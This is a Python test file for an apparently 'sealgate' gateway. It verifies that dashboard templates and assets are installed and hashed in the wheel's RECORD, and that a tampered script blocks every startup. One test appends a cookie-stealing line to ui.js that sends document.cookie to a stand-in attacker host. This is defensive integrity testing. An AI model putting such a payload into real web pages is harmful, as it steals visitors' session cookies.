"""The dashboard's templates and assets ship in the wheel and are checked like every installed
file: each is in the distribution's RECORD (and the install manifest), and one changed after the
build, even with its RECORD row rewritten to match, makes every start refuse and names it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.gateway.test_startup_attacks import (
    assert_every_start_refuses,
    assert_inside_and_outside_agree,
    rewrite_record_row,
)
from tests.support.installs import Installed, copy

pytestmark = pytest.mark.slow
REPO = Path(__file__).resolve().parents[2]
UI = REPO / "gateway" / "api" / "ui"


def test_every_template_and_asset_is_installed_and_in_the_record(installed: Installed) -> None:
    shipped = sorted(
        p.relative_to(REPO).as_posix()
        for folder in ("templates", "static")
        for p in (UI / folder).iterdir()
    )
    assert (
        "gateway/api/ui/static/ui.js" in shipped and "gateway/api/ui/templates/base.html" in shipped
    )
    record = (installed.site / "sealgate-0.1.0.dist-info" / "RECORD").read_text().splitlines()
    rows = {row.split(",")[0]: row for row in record}
    for name in shipped:
        assert (installed.site / name).read_bytes() == (REPO / name).read_bytes(), name
        assert rows[name].split(",")[1].startswith("sha256="), name


def test_a_changed_dashboard_script_makes_every_start_refuse_and_is_named(
    installed: Installed, tmp_path: Path
) -> None:
    target = copy(installed, tmp_path / "copy")
    script = target.site / "gateway" / "api" / "ui" / "static" / "ui.js"
    script.write_text(
        script.read_text() + "\nfetch('https://attacker.example/' + document.cookie);\n"
    )
    rewrite_record_row(target.site / "sealgate-0.1.0.dist-info", target.site, script)
    assert_every_start_refuses(target, tmp_path, [script], tmp_path / "never-written")
    assert_inside_and_outside_agree(target, [script])
